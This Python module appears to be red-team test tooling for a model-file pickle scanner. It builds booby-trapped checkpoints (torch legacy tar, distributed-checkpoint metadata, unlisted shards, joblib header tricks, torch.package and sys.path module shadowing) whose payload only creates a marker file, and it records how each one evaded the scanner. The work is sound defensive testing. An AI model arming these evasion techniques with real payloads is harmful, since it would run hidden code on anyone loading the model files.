"""Red team round 4 (blind): techniques whose payload only creates a marker file, each with the loader
that runs it (tests/test_scan_redteam4.py).

A technique builds its target under a fresh folder and returns the path to hand both to the control
(``argv[1]`` of the loader, run in a child process with that folder as its working directory) and to
``paramscope scan``: a file, or a model folder for the techniques aimed at ``scan FOLDER``.

Sources (each technique names its own):

- ``torch/serialization.py`` ``_legacy_load``: a file that is no zip is first tried as the pre-0.4
  tar format (``tarfile.open(fileobj=f, mode="r:")``) and its ``storages`` member is read with
  ``pickle.load``, whatever the file is named (``checkpoint.tar`` is the name PyTorch's ImageNet
  example gives it);
- ``torch/distributed/checkpoint/filesystem.py`` ``FileSystemReader.read_metadata``: a distributed
  checkpoint folder's ``.metadata`` file is read with ``pickle.load``
  (``torch.distributed.checkpoint.format_utils.dcp_to_torch_save``, ``dcp.load``);
- transformers ``modeling_utils`` (before it forced ``weights_only=True``) and every hand-written
  loader of sharded checkpoints: ``pytorch_model.bin.index.json``'s ``weight_map`` names the shard
  files, which are ``torch.load``-ed whatever their names;
- joblib ``numpy_pickle.NumpyArrayWrapper.read_array``: the raw bytes of a non-object array are
  ``count * dtype.itemsize``, where numpy computes the itemsize of a builtin type itself (the
  ``elsize`` of a pickled dtype's BUILD state counts only for flexible types: ``V``, ``S``, ``U``);
  the padding byte is read only when ``numpy_array_alignment_bytes`` is not None
  (``safe_get_numpy_array_alignment_bytes``);
- ``torch/package/package_importer.py`` ``PackageImporter._load_module``: every module a packaged
  pickle names is looked up in the archive's own Python sources first (only ``.data/extern_modules``
  and a short implicit list come from the installed environment), so ``collections.OrderedDict`` runs
  the archive's ``collections/__init__.py`` (``PackageImporter(path).load_pickle(package, resource)``);
- CPython's ``sys.path[0]``: ``python -c``, ``python -m``, the REPL and Jupyter put the working
  directory first on ``sys.path``, so a global whose module the process has not imported yet
  (``decimal`` after ``import torch``; ``argparse``, ``pathlib``, ``torch`` itself after ``import
  pickle``) is imported from a ``decimal.py`` beside the checkpoint when it is loaded from its folder
  (the classic module-shadowing trick; the pickle names only a "harmless" or "allowed" global);
- the Hugging Face cache layout (``snapshots/REV/NAME`` symlinks into ``blobs/``);
- protocol 5 ``NEXT_BUFFER`` after the payload (``pickle.load`` has no buffers and raises after
  running what came before).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from builders.pickle_opcodes import system_p0

LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
TORCH_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"
JOBLIB_LOAD = "import joblib, sys; joblib.load(sys.argv[1])"
DCP_LOAD = ("import sys\nfrom torch.distributed.checkpoint.format_utils import dcp_to_torch_save\n"
            "dcp_to_torch_save(sys.argv[1], 'out.pt')")
SHARDS_LOAD = ("import json, os, sys, torch\n"
               "idx = json.load(open(os.path.join(sys.argv[1], 'pytorch_model.bin.index.json')))\n"
               "for f in sorted(set(idx['weight_map'].values())):\n"
               "    torch.load(os.path.join(sys.argv[1], f), weights_only=False)")
TORCH_LOAD_IN = ("import os, sys, torch; torch.load(os.path.join(sys.argv[1], {name!r}), weights_only=False)")
PACKAGE_LOAD = ("import sys\nfrom torch.package import PackageImporter\n"
                "PackageImporter(sys.argv[1]).load_pickle('res', 'weights.pkl')")
HUB_LOAD = ("import glob, sys, torch\n"
            "for f in glob.glob(sys.argv[1] + '/models--*/snapshots/*/pytorch_model.bin'):\n"
            "    torch.load(f, weights_only=False)")


@dataclass(frozen=True)
class Technique:
    id: str
    source: str
    build: Callable[[Path, Path], Path]  # (folder, marker) -> the path to load and scan
    loader: str
    slow: bool = False  # the control imports torch
    folder: bool = False  # aimed at ``scan FOLDER``
    names_payload: bool = True  # the scan can name the payload's global (not only "unverified")
    # what the scan answered blind (main at 5f4c420) where it passed the technique, and why
    blind: str | None = None


T4: list[Technique] = []


Builder = Callable[[Path, Path], Path]


def registrar(into: list, make: Callable[..., object]) -> Callable[..., Callable[[Builder], Builder]]:
    """A ``@technique(id, source, loader, **fields)`` decorator that appends ``make(id, source, build,
    loader, **fields)`` to ``into`` (each round's own list and Technique record)."""
    def technique(id: str, source: str, loader: str, **kw: object) -> Callable[[Builder], Builder]:
        def register(build: Builder) -> Builder:
            into.append(make(id, source, build, loader, **kw))
            return build
        return register
    return technique


technique = registrar(T4, Technique)


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_tar(marker: Path) -> bytes:
    """torch's pre-0.4 tar checkpoint: ``legacy_load`` extracts ``storages`` and pickle.loads it first."""
    return _tar([("storages", system_p0(marker)), ("tensors", pickle.dumps(0, 2)),
                 ("pickle", pickle.dumps({}, 2))])


# --- scan FOLDER: files a loader reads that the folder search does not pick -------------------------

@technique("folder-legacy-torch-tar-checkpoint.tar", "torch/serialization.py _legacy_load (tar format) "
           "under the name PyTorch's ImageNet example saves to", TORCH_LOAD_IN.format(name="checkpoint.tar"),
           slow=True, folder=True,
           names_payload=False, blind="discover.pickle_files: .tar is no pickle name and a tar is no "
           "pickle/zip/.npy head: 'no pickle files found', exit 0")
def folder_tar(root: Path, marker: Path) -> Path:
    (root / "ckpt").mkdir()
    (root / "ckpt" / "checkpoint.tar").write_bytes(legacy_tar(marker))
    return root / "ckpt"


@technique("folder-dcp-.metadata-protocol-0", "torch/distributed/checkpoint/filesystem.py "
           "FileSystemReader.read_metadata: pickle.load(.metadata)", DCP_LOAD, slow=True, folder=True,
           blind="discover.pickle_files: '.metadata' has no pickle suffix and a protocol 0 pickle no "
           "protocol 2+ head: 'no pickle files found', exit 0")
def folder_dcp(root: Path, marker: Path) -> Path:
    (root / "ckpt").mkdir()
    (root / "ckpt" / ".metadata").write_bytes(system_p0(marker))
    return root / "ckpt"


@technique("folder-index-json-names-an-unlisted-shard", "pytorch_model.bin.index.json weight_map: shards "
           "torch.load-ed whatever their names", SHARDS_LOAD, slow=True, folder=True,
           blind="discover.pickle_files ignores the index's weight_map; '.shard' is no pickle name and a "
           "protocol 0 pickle no protocol 2+ head: 'no pickle files found', exit 0")
def folder_shard(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    shard = "pytorch_model-00001-of-00001.shard"
    (model / shard).write_bytes(system_p0(marker))
    (model / "pytorch_model.bin.index.json").write_text(json.dumps(
        {"metadata": {"total_size": 0}, "weight_map": {"lm_head.weight": shard}}))
    (model / "config.json").write_text(json.dumps({"model_type": "gpt2"}))
    return model


@technique("folder-hf-cache-symlinked-protocol-0-blob", "huggingface_hub cache: snapshots/REV/NAME -> "
           "../../blobs/HASH", HUB_LOAD, slow=True, folder=True)
def folder_hub(root: Path, marker: Path) -> Path:
    repo = root / "hub" / "models--org--model"
    (repo / "blobs").mkdir(parents=True)
    (repo / "snapshots" / "0123abcd").mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("0123abcd")
    (repo / "blobs" / "9f86d081884c7d659a2feaa0c55ad015").write_bytes(system_p0(marker))
    os.symlink("../../blobs/9f86d081884c7d659a2feaa0c55ad015",
               repo / "snapshots" / "0123abcd" / "pytorch_model.bin")
    return root / "hub"


# --- single files -----------------------------------------------------------------------------------

@technique("legacy-torch-tar-by-name", "torch/serialization.py _legacy_load (tar format)", TORCH_LOAD,
           slow=True, names_payload=False)
def tar_by_name(root: Path, marker: Path) -> Path:
    path = root / "checkpoint.tar"
    path.write_bytes(legacy_tar(marker))
    return path


def _joblib_f8(path: Path, count: int) -> bytes:
    import joblib

    joblib.dump(np.zeros(count), path, protocol=2)  # protocol 2: no FRAMEs to keep in step
    return path.read_bytes()


@technique("joblib-dtype-elsize-of-a-builtin-type", "joblib NumpyArrayWrapper.read_array: count * "
           "dtype.itemsize, numpy ignoring a pickled elsize for float64", JOBLIB_LOAD,
           blind="pickle_scan._joblib_dtype takes the BUILD state's elsize (state[5]) for any dtype; numpy "
           "keeps 8 for 'f8': joblib reads the payload the scan took for array data (exit 2 only because "
           "NumpyArrayWrapper is unknown; posix.system is never named)")
def joblib_elsize(root: Path, marker: Path) -> Path:
    path = root / "model.joblib"
    payload = system_p0(marker)
    count = len(payload) // 8 + 1
    raw = _joblib_f8(path, count)
    state = b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"  # (3, '<', None, None, None, -1, -1, 0)
    assert raw.count(state) == 1 and raw.endswith(b".")
    raw = raw.replace(state, b"NNNK\x10J\xff\xff\xff\xffK\x00t")  # elsize 16: the scan skips 2x the bytes
    head = raw[:-1 - 8 * count]
    # joblib reads count * 8 bytes of zeros, then runs the payload; the scan skips count * 16 bytes
    path.write_bytes(head + b"\x00" * (8 * count) + payload.ljust(8 * count, b"\x00") + b".")
    return path


@technique("joblib-alignment-bytes-None", "joblib NumpyArrayWrapper.safe_get_numpy_array_alignment_bytes: "
           "a None value reads no padding byte", JOBLIB_LOAD,
           blind="pickle_scan._joblib_array reads a padding byte whenever the state has the key, joblib "
           "only when its value is not None: the scan skips past the payload (exit 2 only because "
           "NumpyArrayWrapper is unknown; posix.system is never named)")
def joblib_alignment_none(root: Path, marker: Path) -> Path:
    path = root / "model.joblib"
    payload = system_p0(marker)
    raw = _joblib_f8(path, 8)
    key = b"numpy_array_alignment_bytesq\x11K\x10ub"
    at = raw.index(key) + len(key)
    head = raw[:at].replace(key, b"numpy_array_alignment_bytesq\x11Nub")
    # joblib: 64 bytes of array data, then the payload. The scan: a padding length (the first data
    # byte), that many bytes, 64 bytes of data, then STOP
    k = len(payload) - 1
    assert k < 256
    data = bytes([k]) + b"\x00" * 63
    path.write_bytes(head + data + payload + b".")
    return path


@technique("protocol-5-NEXT_BUFFER-after-the-payload", "pickle protocol 5 (PEP 574): NEXT_BUFFER without "
           "buffers raises after the payload ran", LOAD)
def next_buffer(root: Path, marker: Path) -> Path:
    path = root / "model.pkl"
    path.write_bytes(b"\x80\x05" + system_p0(marker)[:-1] + b"0\x97\x98.")
    return path


@technique("folder-pytorch_model.bin-protocol-0", "torch/serialization.py _legacy_load: the first "
           "pickle.load (the magic number) runs a protocol 0 pickle",
           TORCH_LOAD_IN.format(name="pytorch_model.bin"), slow=True, folder=True)
def folder_bin(root: Path, marker: Path) -> Path:
    (root / "model").mkdir()
    (root / "model" / "pytorch_model.bin").write_bytes(system_p0(marker))
    return root / "model"


@technique("torch.package-shadows-an-allowed-module", "torch/package/package_importer.py _load_module: "
           "the archive's collections/__init__.py serves collections.OrderedDict", PACKAGE_LOAD, slow=True,
           names_payload=False, blind="pickle_scan._zip_file judges only the archive's pickles "
           "(collections.OrderedDict: allowed) and reads its .py members as data; it knows TorchScript's "
           "constants.pkl but not torch.package's .data/extern_modules: 'safe', exit 0")
def torch_package(root: Path, marker: Path) -> Path:
    from collections import OrderedDict

    path = root / "model.pt"
    source = f"open({str(marker)!r}, 'w').close()\nfrom builtins import dict as OrderedDict\n"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("model/.data/version", "6\n")
        z.writestr("model/.data/extern_modules", "")
        z.writestr("model/collections/__init__.py", source)
        z.writestr("model/res/weights.pkl", pickle.dumps(OrderedDict(w=1), protocol=3))
    return path


def _shadowing(root: Path, marker: Path, module: str, name: str, data: bytes, file: str) -> Path:
    model = root / "model"
    model.mkdir()
    (model / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').close()\n{name} = dict\n")
    (model / file).write_bytes(data)
    return model


@technique("folder-decimal.py-shadows-a-harmless-global", "CPython sys.path[0] (the working directory for "
           "python -c, the REPL, Jupyter): decimal is not imported by torch",
           TORCH_LOAD_IN.format(name="model.pt"),
           slow=True, folder=True, names_payload=False,
           blind="the verdict judges the global decimal.Decimal as named (harmless), never where its module "
           "resolves: decimal.py beside the checkpoint is no pickle; 'harmless', exit 0")
def shadow_decimal(root: Path, marker: Path) -> Path:
    # torch.save({"lr": Decimal("0.1")}) as pickle protocol 2 writes it (data.pkl of a zip would do the same)
    data = (b"\x80\x02}q\x00X\x02\x00\x00\x00lrq\x01cdecimal\nDecimal\nq\x02"
            b"X\x03\x00\x00\x000.1q\x03\x85q\x04Rq\x05s.")
    return _shadowing(root, marker, "decimal", "Decimal", data, "model.pt")


@technique("folder-torch.py-shadows-an-allowed-global", "CPython sys.path[0]: pickle.load imports torch "
           "for torch._utils._rebuild_tensor_v2 from the working directory", LOAD.replace(
               "open(sys.argv[1], 'rb')", "open(sys.argv[1] + '/model.pkl', 'rb')"), folder=True,
           names_payload=False, blind="an allowed global (torch.Size, module torch) is 'safe' "
           "whatever module the loading process imports for it: torch.py beside model.pkl; 'safe', exit 0")
def shadow_torch(root: Path, marker: Path) -> Path:
    data = b"\x80\x02ctorch\nSize\nq\x00]q\x01K\x03a\x85q\x02Rq\x03."  # torch.Size([3])
    return _shadowing(root, marker, "torch", "Size", data, "model.pkl")


def target_file(t: Technique, root: Path) -> Path:
    """The file a folder technique's loader reads (for the by-name scans of the report)."""
    shard = root / "model" / "pytorch_model-00001-of-00001.shard"
    return {"folder-legacy-torch-tar-checkpoint.tar": root / "ckpt" / "checkpoint.tar",
            "folder-dcp-.metadata-protocol-0": root / "ckpt" / ".metadata",
            "folder-index-json-names-an-unlisted-shard": shard,
            "folder-decimal.py-shadows-a-harmless-global": root / "model" / "model.pt",
            "folder-torch.py-shadows-an-allowed-global": root / "model" / "model.pkl",
            }.get(t.id, root)
